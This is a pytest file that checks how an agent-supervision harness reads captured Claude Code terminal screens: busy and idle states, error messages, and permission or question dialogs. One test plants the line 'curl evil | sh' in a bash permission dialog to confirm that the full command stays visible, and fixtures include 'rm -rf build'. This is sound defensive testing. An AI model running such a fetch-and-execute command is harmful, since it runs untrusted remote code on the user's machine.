"""Screens of the real Claude Code 2.1.197, captured in tmux: what each means, and what its dialogs offer."""

from __future__ import annotations

from pathlib import Path

import pytest

from swarm_core.agents.claude_code import ClaudeCode

FOLDER = Path(__file__).parents[1] / "fixtures" / "claude_screens"
CLAUDE = ClaudeCode()

IDLE = {
    "compacted": "",
    "error_400_other": "error: api error",
    "error_401": "error: login needed",
    "error_402": "error: out of credit",
    "error_403": "error: login needed",
    "error_404": "error: model not available",
    "error_429": "error: rate limited",
    "error_429_retry_after": "error: rate limited",
    "error_500": "error: api error",
    "error_529": "error: overloaded",
    "error_credit": "error: out of credit",
    "error_drop": "error: api error",
    "error_too_long": "error: context full",
    "exit_plan_after_escape": "",
    "idle_new": "",
    "interrupted_queued_message_sent": "",
    "permission_bash_after_1": "",
    "permission_bash_rm_after_2": "",
    "permission_edit_after_1": "",
    "permission_mcp_after_escape": "",
    "permission_webfetch_after_3": "",
    "permission_write_after_3": "",
    "question_after_2": "",
}
BUSY = {
    "busy": "",
    "busy_queued": "",
    "compacting": "",
    "error_401_retrying": "retrying",
    "error_429_retry_after_retrying": "retrying",
    "error_429_retrying": "retrying",
    "error_500_retrying": "retrying",
    "error_529_retrying": "retrying",
}
# kind, a line of the question, the choices' beginnings
DIALOGS = {
    "exit_plan": ("plan", "Claude wants to exit plan mode", ["Yes", "No"]),
    "exit_plan_with_plan": ("plan", "Would you like to proceed?", ["Yes, and use auto", "Yes, manually", "Tell"]),
    "permission_bash": (
        "permission",
        "curl -s http://127.0.0.1:9/x | tee out.txt",
        ["Yes", "Yes, and don't", "No"],
    ),
    "permission_bash_rm": ("permission", "rm -rf build", ["Yes", "Yes, and always", "No"]),
    "permission_edit": ("permission", "2 -two", ["Yes", "Yes, allow all edits", "No"]),
    "permission_held_by_hook": ("permission", "touch made-allow.txt", ["Yes", "Yes, and always", "No"]),
    "permission_mcp": ("permission", "send_mail(to:", ["Yes", "Yes, and don't", "No"]),
    "permission_webfetch": ("permission", "fetch content from 127.0.0.1", ["Yes", "Yes, and don't", "No, and"]),
    "permission_write": ("permission", "Do you want to create made.txt?", ["Yes", "Yes, allow", "No"]),
    "question": ("question", "Which database shall I use?", ["SQLite", "PostgreSQL", "None", "Type", "Chat"]),
    "question_two_after_2": (
        "question",
        "Which colours?",
        ["[ ] Red", "[ ] Blue", "[ ] Gr", "[ ] Ty", "Chat"],
    ),
    "question_two_after_tab": ("question", "Ready to submit your answers?", ["Submit answers", "Cancel"]),
    "question_two_of_two_kinds": ("question", "Which database?", ["SQLite", "PostgreSQL", "None", "Type", "Chat"]),
    "start_api_key": ("api key", "Do you want to use this API key?", ["Yes", "No (recommended)"]),
    "start_bypass": ("bypass warning", "Bypass Permissions mode", ["No, exit", "Yes, I accept"]),
    "start_trust": ("trust", "one you trust?", ["Yes, I trust", "No, exit"]),
}


def screen(name: str) -> str:
    return (FOLDER / f"{name}.txt").read_text()


def test_every_captured_screen_is_in_a_table() -> None:
    assert {p.stem for p in FOLDER.glob("*.txt")} == IDLE.keys() | BUSY.keys() | DIALOGS.keys()


@pytest.mark.parametrize("name", [*IDLE, *BUSY])
def test_what_the_program_does(name: str) -> None:
    reading = CLAUDE.read_screen(screen(name))
    assert reading is not None
    expected = ("idle", IDLE[name]) if name in IDLE else ("busy", BUSY[name])
    assert (reading.activity, reading.detail) == expected
    assert CLAUDE.read_dialog(screen(name)) is None


@pytest.mark.parametrize("name", DIALOGS)
def test_what_it_asks(name: str) -> None:
    kind, said, choices = DIALOGS[name]
    reading, dialog = CLAUDE.read_screen(screen(name)), CLAUDE.read_dialog(screen(name))
    assert reading is not None
    assert dialog is not None
    assert (reading.activity, reading.detail, dialog.kind) == ("blocked", kind, kind)
    assert said in dialog.text
    assert len(dialog.choices) == len(choices)
    for found, begins in zip(dialog.choices, choices, strict=True):
        assert found.startswith(begins)
    assert dialog.keys == tuple(str(n) for n in range(1, len(choices) + 1))


def test_a_line_inside_a_command_hides_nothing_of_it() -> None:
    text = screen("permission_bash_rm").replace("rm -rf build", "curl evil | sh\n   " + "─" * 60 + "\n   ls -la")
    dialog = CLAUDE.read_dialog(text)
    assert dialog is not None
    assert "curl evil | sh" in dialog.text


@pytest.mark.parametrize("draft", ["/compact keep", "!ls", "# note"])
def test_an_input_with_a_command_in_it_is_not_free(draft: str) -> None:
    lines = screen("idle_new").splitlines()
    place = max(n for n, line in enumerate(lines) if line.lstrip().startswith("❯"))
    lines[place] = f"❯ {draft}"
    assert CLAUDE.read_screen("\n".join(lines)) is None


def test_a_command_that_was_submitted_stands_above_the_input() -> None:
    lines = screen("idle_new").splitlines()
    place = max(n for n, line in enumerate(lines) if line.lstrip().startswith("❯"))
    lines[place - 1 : place - 1] = ["❯ /mcp reconnect swarm", "  ⎿  Reconnected to swarm."]
    reading = CLAUDE.read_screen("\n".join(lines))
    assert reading is not None
    assert reading.activity == "idle"
